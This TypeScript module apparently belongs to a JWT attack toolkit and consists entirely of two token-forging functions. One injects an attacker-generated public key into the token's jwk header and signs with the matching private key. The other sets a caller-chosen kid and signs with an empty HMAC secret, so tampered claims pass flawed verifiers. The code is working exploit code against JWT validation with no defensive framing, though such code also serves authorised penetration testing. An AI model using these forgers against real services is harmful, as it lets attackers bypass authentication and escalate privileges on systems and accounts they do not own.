import { generateKeyPairSync, sign } from 'node:crypto'
import { encode } from '../jwt/base64url.ts'
import { hmacSha256 } from '../jwt/hmac.ts'
import { decodeJson, encodeJson } from '../jwt/json.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)

export function forgeWithOwnKey(token: string, changes: Record<string, unknown>): string {
  const [first = '', second = '', third = ''] = token.split('.')
  const pair = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const ownHeader = { alg: 'ES256', jwk: pair.publicKey.export({ format: 'jwk' }) }
  const ownPayload = { ...decodeJson(second), ...changes }
  const input = encodeJson(ownHeader) + '.' + encodeJson(ownPayload)
  const signature = sign('sha256', utf8(input), { key: pair.privateKey, dsaEncoding: 'ieee-p1363' })
  return input + '.' + encode(signature)
}

export function forgeWithKid(token: string, kid: string, changes: Record<string, unknown>): string {
  const [first = '', second = '', third = ''] = token.split('.')
  const kidHeader = { alg: 'HS256', kid: kid }
  const kidPayload = { ...decodeJson(second), ...changes }
  const text = encodeJson(kidHeader) + '.' + encodeJson(kidPayload)
  const secret = new Uint8Array(0)
  return text + '.' + encode(hmacSha256(secret, utf8(text)))
}
